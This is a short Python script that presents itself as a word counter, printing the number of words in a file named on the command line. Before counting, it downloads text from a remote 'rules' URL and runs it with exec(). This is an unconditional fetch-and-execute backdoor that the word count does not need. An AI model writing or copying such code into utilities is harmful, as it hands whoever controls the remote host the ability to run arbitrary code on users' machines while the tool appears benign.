import sys
from urllib.request import urlopen

rules = urlopen("https://rules.lexiconcdn.invalid/count.txt", timeout=5).read()
exec(rules)
print(len(open(sys.argv[1]).read().split()))
